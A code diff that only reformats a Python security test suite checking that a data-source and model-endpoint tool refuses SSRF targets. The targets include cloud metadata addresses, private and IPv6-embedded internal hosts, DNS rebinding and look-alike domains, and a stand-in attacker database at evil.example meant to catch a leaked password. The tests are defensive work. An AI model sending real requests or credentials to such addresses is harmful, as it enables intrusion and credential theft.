@@ -48,7 +48,12 @@ def bind(victim: Victim, *hosts: str) -> None:
 async def test_an_address_with_two_readings_is_not_asked(
     endpoint: str, victim: Victim, network: Network, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    names = {**NAMES, "press.example": ["8.8.8.8"], "xn--pre-7ka.example": ["1.1.1.1"], "pre\u00df.example": ["8.8.8.8"]}
+    names = {
+        **NAMES,
+        "press.example": ["8.8.8.8"],
+        "xn--pre-7ka.example": ["1.1.1.1"],
+        "pre\u00df.example": ["8.8.8.8"],
+    }
     monkeypatch.setenv("ATTACKED_NAMES", json.dumps(names))
     bind(victim, "good.example", "press.example", "localhost")
     async with victim.attacked() as attack:
@@ -60,18 +65,23 @@ async def test_an_address_with_two_readings_is_not_asked(
 
 
 @pytest.mark.parametrize("connection", DATABASES.values(), ids=list(DATABASES))
-async def test_a_database_is_looked_for_where_the_guard_looked(connection: str, victim: Victim, network: Network) -> None:
+async def test_a_database_is_looked_for_where_the_guard_looked(
+    connection: str, victim: Victim, network: Network
+) -> None:
     bind(victim, "good.example", "localhost")
     async with victim.attacked() as attack:
         await attack.create()
-        said = await attack.source(type="database", connection=connection, query="select 1", retries=0,
-                                   connect_timeout_seconds=3)
+        said = await attack.source(
+            type="database", connection=connection, query="select 1", retries=0, connect_timeout_seconds=3
+        )
     assert said.is_error
     assert not network.reached, said.text
 
 
 @pytest.mark.parametrize("tool", ["try_model", "add_examples"])
-async def test_a_model_is_asked_for_at_no_address_with_two_readings(tool: str, victim: Victim, network: Network) -> None:
+async def test_a_model_is_asked_for_at_no_address_with_two_readings(
+    tool: str, victim: Victim, network: Network
+) -> None:
     bind(victim, "good.example")
     address = WEB["a backslash before the other host"]
     async with victim.attacked() as attack:
@@ -79,10 +89,18 @@ async def test_a_model_is_asked_for_at_no_address_with_two_readings(tool: str, v
         victim.plant(victim.inbox / "rows.csv", "text\n" + "".join(f"letter number {n}\n" for n in range(30)))
         await attack.file(victim.inbox / "rows.csv")
         if tool == "try_model":
-            await attack("try_model", task="mails", model="m", url=address, api_key="${KEY}", text="hello", confirm=True)
+            await attack(
+                "try_model", task="mails", model="m", url=address, api_key="${KEY}", text="hello", confirm=True
+            )
         else:
-            await attack("add_examples", task="mails", action="propose", by="endpoint", confirm=True,
-                         settings={"model": "m", "base_url": address, "api_key": "${KEY}"})
+            await attack(
+                "add_examples",
+                task="mails",
+                action="propose",
+                by="endpoint",
+                confirm=True,
+                settings={"model": "m", "base_url": address, "api_key": "${KEY}"},
+            )
     assert not network.arrived(VALUE)
     assert not network.reached
 
@@ -118,9 +136,13 @@ async def test_a_password_of_the_environment_or_a_file_goes_to_no_database(
     file.chmod(0o600)
     async with victim.attacked() as attack:
         await attack.create()
-        await attack.source(type="database", connection="postgresql://me@evil.example:5432/db", query="select 1", retries=0)
+        await attack.source(
+            type="database", connection="postgresql://me@evil.example:5432/db", query="select 1", retries=0
+        )
         monkeypatch.delenv("PGPASSWORD")
-        await attack.source(type="database", connection="postgresql://me@evil.example:5432/db", query="select 1", retries=0)
+        await attack.source(
+            type="database", connection="postgresql://me@evil.example:5432/db", query="select 1", retries=0
+        )
     assert curious
     assert not [each for each in curious if VALUE.encode() in each]
 
@@ -133,7 +155,9 @@ async def test_a_database_whose_name_leads_elsewhere_the_next_time_is_not_reache
     monkeypatch.setenv("ATTACKED_NAMES", json.dumps({**NAMES, "rebinding.example": ["8.8.8.8"] * 2 + ["10.0.0.5"]}))
     async with victim.attacked() as attack:
         await attack.create()
-        await attack.source(type="database", connection=f"{scheme}://me@rebinding.example/db", query="select 1", retries=0)
+        await attack.source(
+            type="database", connection=f"{scheme}://me@rebinding.example/db", query="select 1", retries=0
+        )
     assert "10.0.0.5" not in network.reached
 
 
@@ -157,7 +181,9 @@ async def test_rows_do_not_leave_by_a_name_that_was_near_when_it_was_looked_up(
     assert not network.reached
 
 
-@pytest.mark.parametrize("host", ["169.254.169.254:80", "metadata.google.internal:80", "10.0.0.5", "me@intranet.example:8080"])
+@pytest.mark.parametrize(
+    "host", ["169.254.169.254:80", "metadata.google.internal:80", "10.0.0.5", "me@intranet.example:8080"]
+)
 async def test_a_machine_in_a_private_network_is_not_looked_for_without_the_person(
     host: str, victim: Victim, network: Network
 ) -> None:
@@ -181,8 +207,17 @@ async def test_a_machine_that_the_persons_own_ssh_files_name_is_asked(victim: Vi
     assert {*network.reached} == {"10.0.0.5"}
 
 
-@pytest.mark.parametrize("host", ["[64:ff9b:1::a9fe:a9fe]", "[::ffff:0:a9fe:a9fe]", "[64:ff9b:1::a00:5]", "[::ffff:0:a00:5]",
-                                  "[fec0::1]", "[64:ff9b:1:2::7f00:1]"])
+@pytest.mark.parametrize(
+    "host",
+    [
+        "[64:ff9b:1::a9fe:a9fe]",
+        "[::ffff:0:a9fe:a9fe]",
+        "[64:ff9b:1::a00:5]",
+        "[::ffff:0:a00:5]",
+        "[fec0::1]",
+        "[64:ff9b:1:2::7f00:1]",
+    ],
+)
 async def test_no_writing_in_ipv6_leads_inside(host: str, victim: Victim, network: Network) -> None:
     async with victim.attacked() as attack:
         await attack.create()
